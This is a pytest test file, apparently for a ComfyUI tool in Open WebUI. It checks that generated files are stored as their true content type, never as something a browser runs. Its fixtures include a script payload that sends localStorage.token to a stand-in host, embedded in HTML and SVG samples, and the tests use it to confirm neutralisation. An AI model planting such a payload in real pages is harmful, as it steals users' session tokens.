"""How a file that was made is stored in Open WebUI: as what its own bytes are, and as nothing that a browser runs."""

import hashlib

import pytest

import comfyui_tool as tool
from tests.support.pictures import png
from tests.support.samples import glb, recorded

SCRIPT = b"<script>fetch('//elsewhere.example/' + localStorage.token)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
TEXT, BYTES = "text/plain", "application/octet-stream"


@pytest.mark.parametrize(
    ("source", "data", "content_type", "ending"),
    [
        ("a.html", b"<!doctype html>" + SCRIPT, TEXT, "txt"),
        ("a.xhtml", b"<html>" + SCRIPT + b"</html>", TEXT, "txt"),
        ("a.png", SCRIPT, TEXT, "txt"),
        ("a.html", SCRIPT.decode().encode("utf-16"), BYTES, "bin"),
        ("a.svg", SVG, TEXT, "txt"),
        ("a.svgz", b"\x1f\x8b\x08\0" + SVG, BYTES, "bin"),
        ("a.js", b"alert(1)", TEXT, "txt"),
        ("a.json", b'{"a": 1}', TEXT, "json"),
        ("a.srt", "1\n00:00 --> 00:01\nÄ".encode(), TEXT, "srt"),
        ("a.glb", glb({}), BYTES, "glb"),
        ("a.safetensors", (2).to_bytes(8, "little") + b"{}", BYTES, "safetensors"),
        ("a.html", png(), "image/png", "png"),
        ("a.js", recorded("sound.flac"), "audio/flac", "flac"),
        ("a.txt", recorded("clip.mp4"), "video/mp4", "mp4"),
        ("a.mov", b"\0\0\0\x08wide\0\0\0\0mdat", "video/quicktime", "mov"),
        ("a.mp4", b"no film", TEXT, "txt"),
    ],
)
def test_a_file_is_stored_as_what_it_is_and_nothing_runs(
    source: str, data: bytes, content_type: str, ending: str
) -> None:
    product, name_ends = tool.as_served(tool.read_product(tool.FileBytes(data), source))
    assert (product.content_type, name_ends, product.data.whole()) == (content_type, ending, data)


@pytest.mark.parametrize(
    ("data", "ending"),
    [
        pytest.param(png(), "png", id="known at a glance"),
        pytest.param(png() + bytes(2**21), "png", id="large"),
        pytest.param(recorded("clip.mp4"), "mp4", id="no picture"),
    ],
)
async def test_a_file_is_known_by_its_digest_which_is_open_webuis(data: bytes, ending: str) -> None:
    served, name_ends = await tool.ready_to_store(tool.read_product(tool.FileBytes(data), f"a.{ending}"))
    assert (served.digest, name_ends) == (hashlib.sha256(data).hexdigest(), ending)


@pytest.mark.parametrize("cut", range(4))
def test_a_text_is_told_although_its_first_bytes_end_within_a_character(cut: int) -> None:
    data = b"a" * (tool.TEXT_JUDGED - cut) + "狐".encode() * 9
    assert tool.as_served(tool.read_product(tool.FileBytes(data), "a.txt"))[0].content_type == TEXT


@pytest.mark.parametrize("text", ["# A fox\n![x](https://elsewhere.example/x)", "```\n![x](y)", "`" * 40, "a", ""])
def test_the_dialog_of_a_text_shows_text(text: str) -> None:
    first, *lines, last = tool.fenced(text).split("\n")
    assert first == last + "text" and set(last) == {"`"}
    assert "\n".join(lines) == text
    assert last not in text
